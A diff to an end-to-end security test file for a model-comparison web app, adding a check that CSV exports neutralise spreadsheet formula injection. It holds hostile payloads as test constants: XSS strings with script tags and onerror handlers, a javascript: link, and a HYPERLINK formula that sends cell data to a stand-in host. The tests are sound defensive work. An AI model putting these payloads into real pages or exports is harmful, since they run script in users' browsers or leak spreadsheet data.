@@ -6,6 +6,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import type { BrowserContext, Page, Request, Route } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
+import { parseCsvTable } from "../../src/core/csv";
 import { CONTENT_SECURITY_POLICY } from "../../vite.config";
 import { launchBrowser, runScenarioInApp, saveScenarioThroughUi, startServers, dumpDatabase, type Servers } from "./harness";
 
@@ -17,6 +18,8 @@ const LINK_PAYLOAD = `[click](javascript:window.__evil=1)`;
 /** What a hostile server puts in an error event: the message reaches the records table. */
 const HOSTILE_ERROR = `<img src=x onerror="window.__evil=2"><script>window.__evil=2</script>`;
 const HOSTILE_LABEL = `Evil <img src=x onerror="window.__evil=3">`;
+/** An answer a spreadsheet would run as a formula if the CSV export passed it on as is. */
+const FORMULA_OUTPUT = `=HYPERLINK("http://exfiltrate.invalid/?"&A1,"click")`;
 
 let workDirectory: string;
 let servers: Servers;
@@ -45,6 +48,7 @@ beforeAll(async () => {
   await page.route("https://huggingface.co/**", answerHub);
   await page.route("https://router.huggingface.co/**", answerRouter);
   await page.route(`${servers.sandbox.url}/hostile/v1/**`, answerHostileStream);
+  await page.route(`${servers.sandbox.url}/formula/v1/**`, answerFormulaStream);
   await page.goto(servers.appUrl());
 }, 120_000);
 
@@ -130,6 +134,13 @@ async function answerHostileStream(route: Route): Promise<void> {
   await route.fulfill({ headers: { ...CORS_HEADERS, "content-type": "text/event-stream" }, body: events.join("") });
 }
 
+/** A complete, well-formed stream whose whole answer is a spreadsheet formula. */
+async function answerFormulaStream(route: Route): Promise<void> {
+  if (await answerPreflight(route)) return;
+  const events = [chunk("m", { role: "assistant", content: "" }, null), chunk("m", { content: FORMULA_OUTPUT }, null), chunk("m", {}, "stop"), "data:[DONE]\n\n"];
+  await route.fulfill({ headers: { ...CORS_HEADERS, "content-type": "text/event-stream" }, body: events.join("") });
+}
+
 async function download(testId: string): Promise<string> {
   const [file] = await Promise.all([page.waitForEvent("download"), page.getByTestId(testId).click()]);
   return readFile(await file.path(), "utf8");
@@ -145,6 +156,7 @@ describe("hostile model output on the compare page", () => {
       targets: [
         { id: "evil", label: HOSTILE_LABEL, endpointUrl: "sandbox:/evil/v1", model: "m" },
         { id: "hostile", endpointUrl: "sandbox:/hostile/v1", model: "m" },
+        { id: "formula", endpointUrl: "sandbox:/formula/v1", model: "m" },
       ],
       inputs: ["Say something."],
       parameters: { max_tokens: 40 },
@@ -179,6 +191,15 @@ describe("hostile model output on the compare page", () => {
       expect(script.text).toBe("");
     }
   }, 60_000);
+
+  it("leaves the records CSV no cell a spreadsheet would run as a formula", async () => {
+    const table = parseCsvTable(await download("export-records-csv"));
+    const formula = table.rows.find((row) => row.targetId === "formula");
+    expect(formula?.status).toBe("ok");
+    expect(formula?.output).toBe(`'${FORMULA_OUTPUT}`);
+    const hostile = table.rows.find((row) => row.targetId === "hostile");
+    expect(hostile?.errorMessage).toContain(HOSTILE_ERROR);
+  });
 });
 
 describe("the Hugging Face token", () => {
